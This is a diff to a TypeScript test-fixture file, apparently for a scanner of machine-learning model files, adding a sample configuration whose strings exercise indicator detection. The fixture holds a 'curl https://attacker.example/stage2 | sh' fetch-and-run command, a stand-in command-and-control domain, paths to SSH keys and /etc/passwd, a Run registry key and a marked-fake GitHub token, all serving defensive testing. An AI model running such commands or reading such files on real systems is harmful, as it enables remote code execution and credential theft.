@@ -4,12 +4,14 @@ import type {
   CodeFact,
   EntryFact,
   Fact,
+  IndicatorFact,
   MemberFlag,
   MetadataFact,
   NamedObjectFact,
   OperationFact,
   ReferenceFact,
 } from '../../shared/domain/fact';
+import { type IndicatorType, maskSecret, type SecretKind } from '../../shared/domain/indicator';
 import type { Report } from '../../shared/domain/report';
 import type { FormatId } from '../../shared/formats';
 import { evaluate } from '../../shared/rules/evaluate';
@@ -57,6 +59,7 @@ interface Lists {
   readonly operations?: readonly OperationFact[];
   readonly references?: readonly ReferenceFact[];
   readonly code?: readonly CodeFact[];
+  readonly indicators?: readonly IndicatorFact[];
 }
 
 function judged(
@@ -501,6 +504,52 @@ export function lockedSample(name = 'weights.7z', locked = true): Sample {
 }
 
 /** What the preview shows beside the pickles. */
+/** Not real: nobody’s token, in the form that its issuer gives them. */
+export const SAMPLE_TOKEN = `ghp_${'q7Zt2Lw9Xk4Vb8Nc3Rm6Hd1Jf5Gs0PyTaUeQ'}`;
+
+/** A configuration whose texts point at all sorts of things. */
+export function stringsSample(name = 'trainer.json'): Sample {
+  const token = maskSecret(SAMPLE_TOKEN);
+  const lines: readonly (readonly [type: IndicatorType, written: string, value?: string, secret?: SecretKind])[] = [
+    ['command', 'curl https://attacker.example/stage2 | sh'],
+    ['url', 'https://attacker.example/stage2'],
+    ['url', 'https://huggingface.co/bert-base-uncased'],
+    ['domain', 'c2.attacker.example'],
+    ['ipv4', '203.0.113.77'],
+    ['email', 'trainer@attacker.example'],
+    ['homePath', '/home/user/.ssh/id_rsa'],
+    ['unixPath', '/etc/passwd'],
+    ['windowsPath', 'C:\\Windows\\win.ini'],
+    ['registryKey', 'HKCU\\Software\\Run'],
+    ['secret', SAMPLE_TOKEN, token, 'github'],
+  ];
+  const parts = new Parts();
+  for (const [index, [, written]] of lines.entries())
+    parts.text(`open${index}`, '{"value": "').text(`v${index}`, written).text(`end${index}`, '"}\n');
+  const indicators = lines.map(
+    ([type, written, value = written, secret = null], index): IndicatorFact => ({
+      kind: 'indicator',
+      type,
+      secret: secret ?? null,
+      value,
+      source: 'document',
+      count: index + 1,
+      entryPath: [],
+      range: parts.at(`v${index}`),
+    }),
+  );
+  const report = judged(
+    name,
+    { indicators },
+    {
+      sizeBytes: parts.size,
+      formatPath: ['json lines'],
+      regions: [{ start: 0, end: parts.size, kind: 'text' }],
+    },
+  );
+  return { name, entries: [{ path: [], bytes: parts.done() }], streams: [], report };
+}
+
 export function formatSamples(): readonly Sample[] {
-  return [kerasSample(), onnxSample(), templateSample(), lockedSample(), tensorsSample()];
+  return [kerasSample(), onnxSample(), templateSample(), lockedSample(), tensorsSample(), stringsSample()];
 }
